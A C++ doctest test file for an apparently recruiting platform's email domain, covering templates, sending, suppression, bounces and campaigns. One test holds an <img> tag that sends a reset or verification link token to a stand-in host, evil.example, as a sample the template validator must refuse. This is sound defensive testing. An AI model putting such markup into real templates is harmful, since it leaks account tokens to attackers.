#include "domain/mail.h"

#include <doctest/doctest.h>

#include <set>

#include "domain/mail_text.h"
#include "schemas/platform.h"
#include "test/domain/rules/seen_with.h"

using namespace hirewire;
using namespace hirewire::mail;

namespace {

const Actor admin = actor_of("admin", Reach::tenant);
const Actor house = actor_of("system", Reach::tenant);
constexpr const char* alice = "Alice@Example.org";

StoredTemplate welcome() {
  return {{.id = mint(), .version = 2, .deleted = false}, {"welcome", "Welcome", "Hi {{name}}", "Come on {{day}}"}};
}
DefineTemplate define(std::string name, std::string body, std::optional<std::string> slug = {}) {
  DefineTemplate command{{mint()}, {}, std::move(name), "Subject", std::move(body), std::move(slug)};
  return command;
}
Result<Events> defined(const DefineTemplate& command, std::vector<std::pair<DirectoryKey, Uuid>> directory = {}) {
  return decide_on<StoredTemplate>(nothing_seen(std::move(directory)), command, admin);
}
SendEmail mail_to(std::optional<std::string> address, std::string body = "Text") {
  SendEmail command{{mint()}, {"Subject", std::move(body), {}}, {}, {}, std::move(address), {}, {}, {}};
  return command;
}
Result<Events> sent(const SendEmail& command, const Actor& actor = admin,
                    std::vector<std::pair<DirectoryKey, Uuid>> directory = {}) {
  return decide_on<StoredTemplate>(nothing_seen(std::move(directory)), command, actor);
}
Email queued_mail(std::string state = "queued", bool unsure = false) {
  return {{.id = mint(), .version = 1, .deleted = false}, alice, std::move(state), unsure, true};
}
std::vector<std::string> types(const Result<Events>& events) {
  std::vector<std::string> all;
  if (events)
    for (const Event& event : *events) all.emplace_back(event.type);
  return all;
}

}  // namespace

TEST_CASE("a template has a slug of its own or one made of its name, and its variables") {
  const auto events = defined(define("Round 1 Results", "Hi {{name}}, {{#link}}see {{link}}{{/link}}"));
  REQUIRE(events);
  const auto& made = events->front().as<TemplateDefined>();
  CHECK(made.slug == "round_1_results");
  CHECK(made.variables == std::vector<std::string>{"link", "name"});
  REQUIRE(events->front().claims.size() == 1);
  CHECK(events->front().claims[0].value == "round_1_results");
  CHECK(defined(define("x", "y", "own-slug"))->front().as<TemplateDefined>().slug == "own-slug");
  CHECK(defined(define("候補者", "y"))->front().as<TemplateDefined>().slug.starts_with("template_"));
  CHECK(faulty_field(defined(define("Round 1 Results", "y"), {{slug_key("round_1_results"), mint()}})) == "slug");
}

TEST_CASE("a slug that looks like an id, a broken text, no body and two are refused") {
  CHECK(faulty_field(defined(define("x", "y", to_string(mint())))) == "slug");
  CHECK(faulty_field(defined(define("x", "y", "Not A Slug"))) == "slug");
  CHECK(faulty_field(defined(define("x", "{{#a}}"))) == "body");
  CHECK(faulty_field(defined(define("x", "  "))) == "body");
  DefineTemplate two = define("x", "y");
  two.html = "<p>y</p>";
  CHECK(faulty_field(defined(two)) == "body");
  DefineTemplate other_word = define("x", "");
  other_word.body.reset();
  other_word.content = "z";
  CHECK(defined(other_word)->front().as<TemplateDefined>().body == "z");
}

TEST_CASE("a change keeps the variables in step, gives an old slug back, and deleting gives it back too") {
  const StoredTemplate now = welcome();
  UpdateTemplate command{{now.id, {}}, {}, {}};
  command.changes.set(&TemplateFields::slug, "hello");
  command.words.set(&BodyWords::html, std::optional<std::string>("<p>{{place}}</p>"));
  const auto events = decide_on<StoredTemplate>(seen_with<StoredTemplate>({now}), command, admin);
  REQUIRE(events);
  CHECK(events->front().as<TemplateUpdated>().variables == std::vector<std::string>{"name", "place"});
  CHECK(events->front().claims.size() == 2);
  const UpdateTemplate nothing{{now.id, {}}, {}, {}};
  CHECK(decide_on<StoredTemplate>(seen_with<StoredTemplate>({now}), nothing, admin)->empty());
  const auto deleted = decide_on<StoredTemplate>(seen_with<StoredTemplate>({now}), DeleteTemplate{{now.id, {}}}, admin);
  REQUIRE(deleted);
  CHECK(deleted->front().claims.front().release);
}

TEST_CASE("whoever may write templates does not get at the tokens of the house's mails") {
  constexpr const char* stolen = R"(<img src="https://evil.example/?t={{link}}">)";
  for (const char* slug : {"reset_password", "verify_email", "invitation"}) {
    CHECK(faulty_field(defined(define("x", stolen, slug))) == "body");
    CHECK(defined(define("x", R"(<p><a href="{{link}}">Go on</a></p>)", slug)).has_value());
    const StoredTemplate now{{.id = mint(), .version = 2, .deleted = false}, {slug, "x", "Subject", "{{link}}"}};
    UpdateTemplate command{{now.id, {}}, {}, {}};
    command.words.set(&BodyWords::html, std::optional<std::string>(stolen));
    CHECK(faulty_field(decide_on<StoredTemplate>(seen_with<StoredTemplate>({now}), command, admin)) == "body");
  }
  CHECK(defined(define("x", stolen, "newsletter")).has_value());
  StoredTemplate other = welcome();
  other.body = stolen;
  UpdateTemplate renamed{{other.id, {}}, {}, {}};
  renamed.changes.set(&TemplateFields::slug, "reset_password");
  CHECK(faulty_field(decide_on<StoredTemplate>(seen_with<StoredTemplate>({other}), renamed, admin)) == "body");
}

TEST_CASE("a person's mail takes from its template what it does not say, and links a known candidate") {
  const StoredTemplate stored = welcome();
  SendEmail command = mail_to(alice);
  command.subject.reset();
  command.body.reset();
  command.stored_template_id = stored.id;
  command.variables = Json{R"({"day":"Monday"})"};
  const Uuid candidate = mint();
  const auto events = decide_on<StoredTemplate>(
      seen_with<StoredTemplate>({stored}, {{candidate_key("alice@example.org"), candidate}}), command, admin);
  REQUIRE(events);
  REQUIRE(types(events) == std::vector<std::string>{"email.queued"});
  const auto& queued = events->front().as<EmailQueued>();
  CHECK(queued.subject == "Hi {{name}}");
  CHECK(queued.recipient == alice);
  CHECK(queued.candidate_id == candidate);
  command.subject = "Own";
  CHECK(decide_on<StoredTemplate>(seen_with<StoredTemplate>({stored}), command, admin)
            ->front()
            .as<EmailQueued>()
            .subject == "Own");
}

TEST_CASE("each variable without a value is named; the house's own need none, hidden ones neither") {
  CHECK(faulty_field(sent(mail_to(alice, "{{day}}"))) == "variables.day");
  CHECK(sent(mail_to(alice, "{{name}} {{first_name}} {{email}} {{#gone}}{{day}}{{/gone}}")).has_value());
  SendEmail valued = mail_to(alice, "{{day}} {{n}} {{#yes}}{{day}}{{/yes}}");
  valued.variables = Json{R"({"day":"","n":1,"yes":true})"};
  CHECK(sent(valued).has_value());
  valued.variables = Json{R"({"day":null,"n":{"a":1}})"};
  CHECK(faulty_field(sent(valued)) == "variables.n");
  valued.variables = Json{"[1]"};
  CHECK(faulty_field(sent(valued)) == "variables");
}

TEST_CASE("a mail wants an address, a subject and a body; the house names a template instead") {
  CHECK(faulty_field(sent(mail_to({}))) == "recipient_email");
  CHECK(faulty_field(sent(mail_to("alice"))) == "recipient_email");
  CHECK(faulty_field(sent(mail_to(alice, " "))) == "body");
  SendEmail verify{{mint()}, {}, {{}, mint()}, {"verify_email", {}, mint()}, alice, {}, {}, {}};
  const auto events = sent(verify, house);
  REQUIRE(events);
  CHECK(events->front().as<EmailQueued>().slug == "verify_email");
  verify.recipient_email.reset();
  CHECK(faulty_field(sent(verify, house)) == "recipient_email");
}

TEST_CASE("a person's mail that could never go is refused, and says what is wrong with it") {
  for (const char* address : {"a@b.example,c@d.example", "a;b@c.example", "(x)a@b.example", "jörg@b.example", "a@b"})
    CHECK_MESSAGE(faulty_field(sent(mail_to(address))) == "recipient_email", address);
  const auto with = [](std::string subject, std::optional<Json> variables = {}) {
    SendEmail command = mail_to(alice);
    command.subject = std::move(subject);
    command.variables = std::move(variables);
    return faulty_field(sent(command));
  };
  for (const char* subject : {"a\rb", "a\nb", "a\vb", "a\x7f"}) CHECK(with(subject) == "subject");
  CHECK(with("a\tb").empty());
  CHECK(with(std::string(512, 'x')).empty());
  CHECK(with(std::string(513, 'x')) == "subject");
  CHECK(with("{{day}}", Json{R"({"day":"a\nb"})"}) == "variables.day");
  CHECK(with("{{day}}", Json{R"({"day":")" + std::string(513, 'x') + R"("})"}) == "subject");
  CHECK(faulty_field(defined({{mint()}, {}, "x", "a\nb", "y", {}})) == "subject");
  SendEmail much = mail_to(alice);
  for (int i = 0; i < 6; ++i) *much.body += "{{day}}";
  much.variables = Json{R"({"day":")" + std::string(100'000, 'x') + R"("})"};
  CHECK(faulty_field(sent(much)) == "body");
}

TEST_CASE("a person cannot send what only the house may, and not for another company") {
  SendEmail command = mail_to(alice);
  command.slug = "reset_password";
  command.one_time_token_id = mint();
  command.company_id = mint();
  const Actor hr = actor_of("hr", Reach::company, mint());
  const auto events = sent(command, hr);
  REQUIRE(events);
  const auto& queued = events->front().as<EmailQueued>();
  CHECK_FALSE(queued.slug);
  CHECK_FALSE(queued.one_time_token_id);
  CHECK(queued.company_id == hr.company_id);
}

TEST_CASE("to a suppressed address a mail is queued and suppressed at once") {
  const auto events = sent(mail_to(alice), admin, {{suppressed_key(alice), mint()}});
  CHECK(types(events) == std::vector<std::string>{"email.queued", "email.suppressed"});
}

TEST_CASE("only a mail that is unsure is sent again by hand") {
  const auto retry = [](const Email& email) {
    return decide_on<Email>(seen_with<Email>({email}), RetryEmail{{email.id, {}}}, admin);
  };
  CHECK(types(retry(queued_mail("queued", true))) == std::vector<std::string>{"email.retried"});
  CHECK(refused(retry(queued_mail())) == Reason::conflict);
  CHECK(refused(retry(queued_mail("failed"))) == Reason::conflict);
  Email another_companys = queued_mail("queued", true);
  another_companys.in_reach = false;
  CHECK(refused(retry(another_companys)) == Reason::forbidden);
}

TEST_CASE("a failure is told once, and suppresses the address where the server said so") {
  const Email email = queued_mail();
  const RecordMailFailure failure{email.id, alice, "550 no such user", true, false};
  const auto decided = [&](const Email& seen, std::vector<std::pair<DirectoryKey, Uuid>> directory = {}) {
    return decide_on<Email>(seen_with<Email>({seen}, std::move(directory)), failure, house);
  };
  const auto events = decided(email);
  CHECK(types(events) == std::vector<std::string>{"email.failed", "suppression.added"});
  CHECK(events->back().as<AddressSuppressed>().address == "alice@example.org");
  CHECK(types(decided(email, {{suppressed_key(alice), mint()}})) == std::vector<std::string>{"email.failed"});
  CHECK(decided({{email.id, 2, false}, alice, "failed", false})->empty());
}

TEST_CASE("a hard bounce and a complaint suppress the address, a soft one does not") {
  const Email email = queued_mail();
  const auto bounce = [&](std::string kind) {
    return types(
        decide_on<Email>(seen_with<Email>({email}), RecordBounce{email.id, alice, std::move(kind), {}}, house));
  };
  CHECK(bounce("hard") == std::vector<std::string>{"email.bounced", "suppression.added"});
  CHECK(bounce("complaint") == std::vector<std::string>{"email.bounced", "suppression.added"});
  CHECK(bounce("soft") == std::vector<std::string>{"email.bounced"});
}

TEST_CASE("an address is suppressed once, for all or for campaigns, and lifted by hand") {
  const auto suppress = [](std::optional<std::string> scope, std::vector<std::pair<DirectoryKey, Uuid>> directory,
                           const Actor& actor) {
    return decide_on<Suppression>(nothing_seen(std::move(directory)),
                                  SuppressAddress{{mint()}, alice, std::move(scope), "unsubscribed"}, actor);
  };
  CHECK(suppress({}, {}, admin)->front().as<AddressSuppressed>().scope == "all");
  CHECK(suppress({}, {}, admin)->front().as<AddressSuppressed>().reason == "manual");
  CHECK(suppress("campaigns", {}, house)->front().as<AddressSuppressed>().reason == "unsubscribed");
  CHECK(refused(suppress("campaigns", {{suppressed_key(alice), mint()}}, admin)) == Reason::conflict);
  CHECK(suppress("campaigns", {{unsubscribed_key(alice), mint()}}, house)->empty());
  CHECK(suppress({}, {{unsubscribed_key(alice), mint()}}, admin).has_value());
  const Suppression now{{mint(), 1, false}, {"alice@example.org", "campaigns", "unsubscribed"}};
  const auto lifted = decide_on<Suppression>(seen_with<Suppression>({now}), LiftSuppression{{now.id, {}}}, admin);
  CHECK(lifted->front().claims.front().kind == "mail_unsubscribed");
}

TEST_CASE("a campaign has each address once and counts whom it cannot reach; with nobody it is refused") {
  StartCampaign command{{mint()}, {"S", "B", {}}, {}, {}, {}, {}, {}, {}, {}, 2, {}};
  command.people = {{{mint(), {}}, "nobody"}, {{}, "alice@example.org"}, {{}, alice}, {{}, "bob@example.org"}};
  const auto events = decide_on<StoredTemplate>(nothing_seen(), command, admin);
  REQUIRE(types(events) == std::vector<std::string>{"task.queued", "campaign.started"});
  CHECK(events->front().as<platform::TaskQueued>().kind == "campaign");
  CHECK(events->front().as<platform::TaskQueued>().total == 5);
  const auto& started = events->back().as<CampaignStarted>();
  CHECK(started.people.size() == 2);
  CHECK(started.unreachable == 3);
  command.people.push_back({{}, "a@example.org,b@example.org"});
  CHECK(faulty_field(decide_on<StoredTemplate>(nothing_seen(), command, admin)) == "recipients");
  command.people.clear();
  CHECK(faulty_field(decide_on<StoredTemplate>(nothing_seen(), command, admin)) == "recipients");
}

TEST_CASE("a campaign's number of mails tells of no typed address whether it is a candidate's or a user's") {
  const auto total = [](std::string typed) {
    StartCampaign command;
    command.id = mint();
    command.subject = command.body = "Text";
    command.people = {{{mint(), {}}, alice}, {{{}, mint()}, "bob@example.org"}, {{}, std::move(typed)}};
    const auto events = decide_on<StoredTemplate>(nothing_seen(), command, admin);
    return events ? events->front().as<platform::TaskQueued>().total : 0;
  };
  for (const char* typed : {"carol@example.org", alice, "alice@example.org", "bob@example.org"})
    CHECK(total(typed) == 3);
}

TEST_CASE("whose a typed address is a campaign says to who sees everybody's contacts") {
  StartCampaign command;
  command.id = mint();
  command.subject = command.body = "Text";
  command.people = {{{}, alice}, {{}, "bob@example.org"}};
  const Uuid candidate = mint();
  const auto linked = [&](const Actor& actor) {
    const auto events =
        decide_on<StoredTemplate>(nothing_seen({{candidate_key("alice@example.org"), candidate}}), command, actor);
    REQUIRE(events);
    const auto& people = events->back().as<CampaignStarted>().people;
    REQUIRE(people.size() == 2);
    CHECK_FALSE(people[1].candidate_id);
    return people[0].candidate_id;
  };
  CHECK(linked(admin) == candidate);
  for (const char* role : {"hr", "consultant"}) CHECK_FALSE(linked(actor_of(role, Reach::tenant, mint())));
  const auto looked_up = touches(command, admin).directory;
  CHECK(std::ranges::find(looked_up, candidate_key(alice)) != looked_up.end());
}

TEST_CASE("whom an import brought is invited, unless he has an account; the text is that of the day it is sent") {
  StartCampaign command;
  command.id = mint();
  command.slug = candidate_invitation;
  command.newcomers_only = true;
  command.people = {{{mint(), {}}, "Alice@example.org"}, {{mint(), {}}, "bob@example.org"}};
  const DirectoryKey account{true, "user_email", "alice@example.org"};
  const auto events = decide_on<StoredTemplate>(nothing_seen({{account, mint()}}), command, house);
  REQUIRE(types(events) == std::vector<std::string>{"task.queued", "campaign.started"});
  CHECK(events->front().as<platform::TaskQueued>().total == 1);
  const auto& started = events->back().as<CampaignStarted>();
  CHECK(started.slug == candidate_invitation);
  CHECK_FALSE(started.subject);
  REQUIRE(started.people.size() == 1);
  CHECK(started.people[0].address == "bob@example.org");
  command.people.pop_back();
  CHECK(decide_on<StoredTemplate>(nothing_seen({{account, mint()}}), command, house)->empty());
  CHECK(refused(decide_on<StoredTemplate>(nothing_seen(), command, admin)) == Reason::invalid);  // a person has no slug
}

TEST_CASE("a chunk queues those whose turn it is, once; an ended task queues nothing more") {
  Campaign now{{mint(), 1, false}, 0, 1, 3, "queued", {{{{}, "a@example.org"}, false}, {{{}, "b@example.org"}, true}}};
  const auto chunk = [&](std::int64_t queued) {
    return decide_on<Campaign>(seen_with<Campaign>({now}), QueueCampaignMails{now.id, queued}, house);
  };
  const auto events = chunk(0);
  REQUIRE(types(events) == std::vector<std::string>{"campaign.mails_queued"});
  const auto& done = events->front().as<CampaignMailsQueued>();
  CHECK(done.created == 1);
  CHECK(done.skipped == 1);
  CHECK(done.failed == 1);
  CHECK_FALSE(done.last);
  std::set<Uuid> ids{done.mails[0].id, done.mails[1].id};
  CHECK(ids.size() == 2);
  CHECK(done.mails[1].state == "suppressed");
  CHECK(chunk(0)->front().as<CampaignMailsQueued>().mails[0].id == done.mails[0].id);
  CHECK(chunk(2)->empty());
  now.task_state = "cancelled";
  CHECK(chunk(0)->empty());
  now = {{now.id, 2, false}, 2, 1, 3, "queued", {{{{}, "c@example.org"}, false}}};
  CHECK(chunk(2)->front().as<CampaignMailsQueued>().last);
  CHECK(chunk(2)->front().as<CampaignMailsQueued>().failed == 0);
}

TEST_CASE("a body that begins with a tag is HTML") {
  CHECK(is_html(" \n<p>x</p>"));
  CHECK(is_html("<!doctype html>"));
  CHECK_FALSE(is_html("a < b"));
  CHECK_FALSE(is_html("<3"));
  CHECK_FALSE(is_html(""));
}

TEST_CASE("who has not proven his own address sends nothing, and whom an address belongs to a company is not told") {
  Actor hr = actor_of("hr", Reach::company, mint());
  const auto one = sent(mail_to(alice), hr, {{candidate_key(alice), mint()}});
  REQUIRE(one);
  CHECK_FALSE(one->front().as<EmailQueued>().candidate_id);
  hr.is_verified = false;
  CHECK(refused(sent(mail_to(alice), hr)) == Reason::forbidden);
  StartCampaign campaign;
  campaign.id = mint();
  campaign.subject = campaign.body = "Text";
  campaign.people = {{{}, alice}};
  const auto many = decide_on<StoredTemplate>(nothing_seen(), campaign, hr);
  REQUIRE(refused(many) == Reason::forbidden);
  CHECK(many.error().code == "EMAIL_UNVERIFIED");
  hr.is_verified = true;
  CHECK(decide_on<StoredTemplate>(nothing_seen(), campaign, hr));
}

TEST_CASE("what users are told is mailed to those who want it, as they see it by then; the house alone asks") {
  const auto told = [](std::string kind, bool is_wanted) {
    return NotificationToMail{mint(), std::move(kind), mint(), "ada@example.org", is_wanted};
  };
  const NotificationToMail wanted = told("announcement", true), other = told("test", true),
                           unwanted = told("test", false);
  NotificationToMail nowhere = told("test", true);
  nowhere.address = "nowhere";
  const MailNotifications command{{wanted.id, unwanted.id, mint(), nowhere.id, other.id}};
  const auto mailed = [&](const Actor& actor) {
    return decide_on<NotificationToMail>(seen_with<NotificationToMail>({wanted, other, unwanted, nowhere}), command,
                                         actor);
  };
  const auto events = mailed(house);
  REQUIRE(types(events) == std::vector<std::string>{"email.queued", "email.queued"});
  const auto& first = events->front().as<EmailQueued>();
  CHECK(first.slug == "announcement");
  CHECK(first.notification_id == wanted.id);
  CHECK(first.user_id == wanted.user_id);
  CHECK(first.recipient == "ada@example.org");
  CHECK_FALSE(first.body);
  CHECK(tag_of(events->front().aggregate_id) == tag_of(wanted.id));
  CHECK(events->back().as<EmailQueued>().slug == "notification");
  CHECK(mailed(house)->front().aggregate_id == events->front().aggregate_id);
  CHECK(refused(mailed(admin)) == Reason::forbidden);
}
